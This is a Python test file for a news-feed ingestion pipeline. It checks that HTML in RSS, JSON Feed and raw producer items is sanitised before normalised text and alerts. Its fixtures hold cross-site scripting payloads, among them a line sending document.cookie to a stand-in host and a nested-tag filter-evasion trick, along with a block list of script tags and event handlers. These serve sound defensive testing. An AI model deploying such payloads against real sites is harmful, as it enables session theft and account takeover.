"""Scripts, event handlers, javascript: links, iframes and styles in feed items never reach
normalised text or alerts: through the RSS/JSON Feed parsers, and straight from a producer that
publishes raw HTML (the Article contract lets `content` hold HTML)."""

from __future__ import annotations

import json
from typing import Any

import pytest

from connectors import article as contract
from connectors.base import FeedConfig, Fetched
from connectors.registry import connector_for
from streams.alerts import AlertPolicy
from streams.escalation import Rules
from streams.pipeline import Pipeline

HOSTILE = ('<p>Rockets struck the harbour town of Ashkelon, killing 12 people, officials said.</p>'
           '<script>alert(1)</script><script type="text/javascript">fetch("//evil.test/"+document.cookie)</script>'
           '<img src=x onerror="alert(2)"><a href="javascript:alert(3)" onclick="alert(4)">more</a>'
           '<iframe src="javascript:alert(5)"></iframe><style>body{background:url(javascript:alert(6))}</style>'
           '<svg onload=alert(7)><p onmouseover="alert(8)">Mortar fire continued overnight.</p>'
           '<SCRIPT>alert(9)</SCRIPT><scr<script>x</script>ipt>alert(10)</script>'
           '<noscript><img src=x onerror=alert(11)></noscript><object data="javascript:alert(12)"></object>')
TITLE = 'Rockets kill 12 <script>alert("t")</script><img src=x onerror=alert(1)> in Ashkelon'
FORBIDDEN = ("<script", "</script", "onerror", "onload", "onclick", "onmouseover", "javascript:", "<iframe",
             "<style", "<img", "<svg", "<object", "<noscript",
             # the contents of real script/style elements are dropped, not shown as text
             "alert(1)", "alert(9)", 'alert("t")', "document.cookie", "background:url")


def assert_clean(value: Any, where: str) -> None:
    text = json.dumps(value, ensure_ascii=False).lower()
    for needle in FORBIDDEN:
        assert needle not in text, f"{needle!r} reached {where}: {text[:400]}"


@pytest.fixture(scope="module")
def rules() -> Rules:
    return Rules.load()


def run_pipeline(rules: Rules, article: dict[str, Any]) -> tuple[dict[str, Any], dict[str, Any] | None,
                                                                 dict[str, Any]]:
    from streams.pipeline import normalize_stage

    pipeline = Pipeline(rules, AlertPolicy())
    decision, alerts = pipeline.process(article)
    return decision, (alerts[-1] if alerts else None), normalize_stage(article)


def test_raw_html_from_a_producer_is_inert_in_norm_and_alerts(rules: Rules) -> None:
    article = {"id": "hostile-1", "url": "https://news.example/ashkelon", "title": TITLE,
               "published_at": "2024-05-01T10:00:00Z", "source": "news.example", "feed": "hostile",
               "language": "en", "summary": HOSTILE, "content": HOSTILE}
    decision, alert, normed = run_pipeline(rules, article)
    assert_clean(normed["norm"]["title"], "norm.title")
    assert_clean(normed["norm"]["body"], "norm.body")
    assert "Rockets struck the harbour town" in normed["norm"]["body"]
    assert "Mortar fire continued overnight." in normed["norm"]["body"]
    assert alert is not None, decision                       # the real news still scores and alerts
    assert_clean(alert, "the alert")
    assert alert["title"].startswith("Rockets kill 12") and alert["title"].endswith("in Ashkelon")
    assert_clean(decision["escalation"]["matches"], "decision matches")


def feed_item(title: str, html: str) -> bytes:
    escaped = html.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    title_escaped = title.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return (f"<?xml version='1.0'?><rss version='2.0' xmlns:content='http://purl.org/rss/1.0/modules/content/'>"
            f"<channel><title>t</title><link>https://news.example/</link><item><title>{title_escaped}</title>"
            f"<link>https://news.example/a1</link><guid>a1</guid><pubDate>Wed, 01 May 2024 10:00:00 GMT</pubDate>"
            f"<description>{escaped}</description><content:encoded><![CDATA[{html}]]></content:encoded>"
            f"</item></channel></rss>").encode()


def json_feed(title: str, html: str) -> bytes:
    return json.dumps({"version": "https://jsonfeed.org/version/1.1", "title": "t",
                       "items": [{"id": "a1", "url": "https://news.example/a1", "title": title, "content_html": html,
                                  "summary": html, "date_published": "2024-05-01T10:00:00Z"}]}).encode()


@pytest.mark.parametrize("body", [feed_item(TITLE, HOSTILE), json_feed(TITLE, HOSTILE)], ids=["rss", "jsonfeed"])
def test_hostile_items_from_feeds_are_inert_in_norm_and_alerts(rules: Rules, body: bytes) -> None:
    connector = connector_for(FeedConfig(id="hostile", url="https://news.example/feed", kind="rss"))
    items = connector.parse(Fetched("https://news.example/feed", 200, body,
                                    {"content-type": "application/xml"}, fetched_at="2024-05-01T10:05:00Z"))
    assert len(items) == 1
    contract.validate(items[0])
    decision, alert, normed = run_pipeline(rules, {**items[0], "language": "en"})
    assert_clean(normed["norm"]["title"], "norm.title")
    assert_clean(normed["norm"]["body"], "norm.body")
    assert alert is not None, decision
    assert_clean(alert, "the alert")
